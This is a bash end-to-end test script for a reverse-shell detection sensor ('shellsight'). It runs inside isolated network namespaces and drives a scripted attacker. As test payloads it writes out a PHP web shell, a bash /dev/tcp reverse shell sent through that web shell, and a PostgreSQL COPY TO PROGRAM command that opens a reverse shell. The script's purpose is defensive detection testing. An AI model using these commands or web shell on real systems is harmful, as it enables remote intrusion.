#!/usr/bin/env bash
# End-to-end run of the live sensor against real servers and a scripted attacker.
#
#   sudo SHELLSIGHT=target/release/shellsight bash tests/e2e/run.sh CASE OUTDIR
#
# CASE:
#   php-fpm    nginx + php-fpm serve <?php system($_GET['c']); ?>; the attacker's GET runs
#              bash -i >& /dev/tcp/198.19.0.66/4444 0>&1 in a php-fpm worker
#   postgres   psql runs COPY (SELECT 1) TO PROGRAM 'bash -c "bash -i >& /dev/tcp/.../4445 0>&1"'
#   admin-ssh  an interactive ssh -tt session from the approved admin address 198.19.0.100
#
# The sensor runs in the server namespace on its veth for E2E_DURATION seconds:
#   shellsight sensor --interface sse2e-srv $SENSOR_AGENT_ARGS --config OUTDIR/site.toml
#       --format json -o OUTDIR/alerts.jsonl --duration N
# SENSOR_AGENT_ARGS defaults to --local-agent; set it empty to run on network evidence only.
#
# OUTDIR gets: alerts.jsonl, flows.jsonl, sensor.err, capture.pcap (snaplen 256), site.toml,
# operator.log / ssh-driver.log, transcript.txt, chain.txt (the shell's parent chain and a
# ps --forest, taken while the session is up), logs/ (the servers' logs).
# Exits non-zero with a message when a server or the scenario fails, or the sensor fails;
# status 3 means the outputs are complete but the sensor did not stop at its --duration.
set -euo pipefail

CASE="${1:?usage: run.sh php-fpm|postgres|admin-ssh OUTDIR}"
OUTDIR="${2:?usage: run.sh php-fpm|postgres|admin-ssh OUTDIR}"
SHELLSIGHT="${SHELLSIGHT:?set SHELLSIGHT to the shellsight binary}"
SENSOR_AGENT_ARGS="${SENSOR_AGENT_ARGS---local-agent}"
read -r -a AGENT_ARGS <<<"$SENSOR_AGENT_ARGS"

source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"

case "$CASE" in
php-fpm) DEFAULT_DURATION=60 ;;
postgres) DEFAULT_DURATION=60 ;;
admin-ssh) DEFAULT_DURATION=50 ;;
*) die "unknown case '$CASE' (php-fpm, postgres, admin-ssh)" ;;
esac
DURATION="${E2E_DURATION:-$DEFAULT_DURATION}"
SEED="${E2E_SEED:-7}"

[ "$(id -u)" = 0 ] || die "needs root (network namespaces, servers as other users)"
[ -x "$SHELLSIGHT" ] || die "SHELLSIGHT=$SHELLSIGHT is not an executable"
SHELLSIGHT="$(cd "$(dirname "$SHELLSIGHT")" && pwd)/$(basename "$SHELLSIGHT")"
for tool in ip ss tcpdump curl nginx "$PHP_FPM" "$PG_BIN/postgres" psql /usr/sbin/sshd ssh setpriv; do
    command -v "$tool" >/dev/null || die "missing tool: $tool (see .ci/run)"
done
mkdir -p "$OUTDIR"
OUTDIR="$(cd "$OUTDIR" && pwd)"
rm -rf "$OUTDIR"/{alerts.jsonl,flows.jsonl,sensor.err,sensor-overran.txt,capture.pcap,chain.txt} \
    "$OUTDIR"/{transcript.txt,operator.log,ssh-driver.log,curl.log,psql.log,logs}

e2e_setup
log "case $CASE: namespaces $NS_SRV ($SRV_IP) and $NS_ATK ($ATK_IP, $ADMIN_IP), tmp $E2E_TMP"

cat >"$OUTDIR/site.toml" <<EOF
# written by tests/e2e/run.sh
[site]
home_nets = ["198.18.0.0/16"]

[[role]]
name = "server"
cidrs = ["$SRV_IP/32"]

[admin]
approved_ranges = ["$ADMIN_IP/32"]
EOF
"$SHELLSIGHT" config check "$OUTDIR/site.toml" >&2 || die "site.toml does not pass 'shellsight config check'"

# ---- servers (checked end to end before the capture starts)
case "$CASE" in
php-fpm) start_nginx_php ;;
postgres) start_postgres ;;
admin-ssh) start_sshd ;;
esac

# ---- capture and sensor
start_capture "$OUTDIR/capture.pcap"
# started directly (not through a shell function), so $! is the sensor itself
ip netns exec "$NS_SRV" "$SHELLSIGHT" -v sensor --interface "$IF_SRV" "${AGENT_ARGS[@]}" \
    --config "$OUTDIR/site.toml" --format json -o "$OUTDIR/alerts.jsonl" \
    --flows "$OUTDIR/flows.jsonl" --duration "$DURATION" 2>"$OUTDIR/sensor.err" &
SENSOR_PID=$!
SENSOR_START=$SECONDS
for _ in $(seq 100); do
    grep -q "capturing on" "$OUTDIR/sensor.err" 2>/dev/null && break
    kill -0 "$SENSOR_PID" 2>/dev/null || break
    sleep 0.1
done
if ! kill -0 "$SENSOR_PID" 2>/dev/null; then
    sed 's/^/  | /' "$OUTDIR/sensor.err" >&2
    die "the sensor exited at start (args: ${AGENT_ARGS[*]:-none}); see $OUTDIR/sensor.err"
fi
log "sensor running (pid $SENSOR_PID, ${DURATION}s, agent args: ${AGENT_ARGS[*]:-none})"
sleep 1

# ---- the scenario
SCENARIO_ERR=""
operator() { # operator PORT: the scripted attacker listens on 198.19.0.66:PORT
    in_atk "${PY[@]}" "$FX_LIB/operator.py" listen --host "$ATK_IP" --port "$1" --lines \
        --seed "$SEED" --script recon --accept-timeout 20 --transcript "$OUTDIR/transcript.txt" \
        2>"$OUTDIR/operator.log" &
    OP_PID=$!
    wait_listen "$NS_ATK" "$1" "operator.py" "$OUTDIR/operator.log"
}
check_shell() { # check_shell PORT PARENT: the operator got a shell whose chain has PARENT
    local port="$1" parent="$2"
    wait "$OP_PID" || SCENARIO_ERR="operator.py failed (see $OUTDIR/operator.log)"
    wait "$CHAIN_PID" || true
    if ! grep -q "connection from $SRV_IP" "$OUTDIR/operator.log"; then
        SCENARIO_ERR="no shell connected back to $ATK_IP:$port (see operator.log, logs/)"
    elif ! grep -q "uid=" "$OUTDIR/transcript.txt" 2>/dev/null; then
        SCENARIO_ERR="the shell on :$port never answered 'id' (see transcript.txt)"
    else
        local chain
        chain="$(sed -n '/^holder/,/^$/p' "$OUTDIR/chain.txt" | awk 'NF>=2 && $1!="holder" {print $1, $2}')"
        if ! grep -qx "$parent" <<<"$(awk '{print $2}' <<<"$chain")"; then
            SCENARIO_ERR="the shell's parent chain has no '$parent' (see chain.txt)"
        else
            log "shell on :$port and its parents: $(awk '{printf "%s(%s) ", $2, $1}' <<<"$chain")"
        fi
    fi
}

case "$CASE" in
php-fpm)
    operator 4444
    shell_chain 4444 "$OUTDIR/chain.txt" &
    CHAIN_PID=$!
    log "GET /shell.php?c=bash -c 'bash -i >& /dev/tcp/$ATK_IP/4444 0>&1' from $ATK_IP"
    # system() waits for the shell, so the request hangs until `exit`: background, bounded
    in_atk curl -sS -o /dev/null -m 75 -G \
        --data-urlencode "c=bash -c 'bash -i >& /dev/tcp/$ATK_IP/4444 0>&1'" \
        "http://$SRV_IP/shell.php" >"$OUTDIR/curl.log" 2>&1 &
    check_shell 4444 php-fpm8.2
    ;;
postgres)
    operator 4445
    shell_chain 4445 "$OUTDIR/chain.txt" &
    CHAIN_PID=$!
    SQL="COPY (SELECT 1) TO PROGRAM 'bash -c \"bash -i >& /dev/tcp/$ATK_IP/4445 0>&1\"'"
    log "psql: $SQL"
    # COPY ... TO PROGRAM waits for the shell too: background, bounded
    in_srv_as postgres timeout 75 psql -h "$PG_DIR/sock" -U postgres -d postgres -c "$SQL" \
        >"$OUTDIR/psql.log" 2>&1 &
    check_shell 4445 postgres
    ;;
admin-ssh)
    log "ssh -tt root@$SRV_IP from $ADMIN_IP, typed by fixtures/lib/ssh_driver.py"
    in_atk timeout 80 "${PY[@]}" "$FX_LIB/ssh_driver.py" --seed "$SEED" --cmd id --cmd uptime --cmd 'ls /' \
        --cmd 'df -h /' --cmd 'cat /etc/os-release | head -3' -- \
        ssh -tt "${SSH_OPTS[@]}" "root@$SRV_IP" >"$OUTDIR/transcript.txt" 2>"$OUTDIR/ssh-driver.log" ||
        SCENARIO_ERR="ssh_driver.py failed (see ssh-driver.log)"
    grep -q "uid=0(root)" "$OUTDIR/ssh-driver.log" ||
        SCENARIO_ERR="${SCENARIO_ERR:-the ssh session never answered 'id' (see ssh-driver.log)}"
    ;;
esac
log "scenario done; waiting for the sensor (--duration $DURATION)"

# ---- collect
# The sensor must stop by itself at --duration. If it is still running 10 s later (seen:
# libpcap blocks on an idle interface, so the capture thread never sees the stop flag),
# one TCP SYN to a closed port on the server wakes it so the outputs are complete; the
# run then exits with status 3 (outputs complete, sensor overran its --duration).
OVERRAN=""
GRACE=10
while kill -0 "$SENSOR_PID" 2>/dev/null && [ $((SECONDS - SENSOR_START)) -lt $((${DURATION%.*} + GRACE)) ]; do
    sleep 0.5
done
if kill -0 "$SENSOR_PID" 2>/dev/null; then
    OVERRAN="the sensor was still running ${GRACE} s after its --duration ${DURATION} s"
    log "WARNING: $OVERRAN; waking it with one SYN to $SRV_IP:9 (closed port)"
    in_atk timeout 3 bash -c "echo >/dev/tcp/$SRV_IP/9" 2>/dev/null || true
    for _ in $(seq 100); do
        kill -0 "$SENSOR_PID" 2>/dev/null || break
        sleep 0.1
    done
    if kill -0 "$SENSOR_PID" 2>/dev/null; then
        kill -KILL "$SENSOR_PID" 2>/dev/null || true
        die "$OVERRAN and did not stop after a packet either; killed (see $OUTDIR/sensor.err)"
    fi
    OVERRAN="$OVERRAN; it stopped only after a packet arrived (idle-interface hang)"
    printf '%s\n' "$OVERRAN" >"$OUTDIR/sensor-overran.txt"
fi
SENSOR_RC=0
wait "$SENSOR_PID" || SENSOR_RC=$?
stop_capture
mkdir -p "$OUTDIR/logs"
find "$E2E_TMP" -maxdepth 2 -name '*.log' -exec cp {} "$OUTDIR/logs/" \; 2>/dev/null || true
ALERTS="$(grep -c '"kind":"alert"' "$OUTDIR/alerts.jsonl" 2>/dev/null || true)"
log "sensor exit status $SENSOR_RC; ${ALERTS:-0} alert line(s) in $OUTDIR/alerts.jsonl"
[ "$SENSOR_RC" = 0 ] || die "the sensor failed (exit $SENSOR_RC); see $OUTDIR/sensor.err"
[ -z "$SCENARIO_ERR" ] || die "$CASE scenario: $SCENARIO_ERR"
if [ -n "$OVERRAN" ]; then
    printf 'e2e: FAILED (status 3, outputs complete): %s\n' "$OVERRAN" >&2
    exit 3
fi
log "case $CASE done; outputs in $OUTDIR"
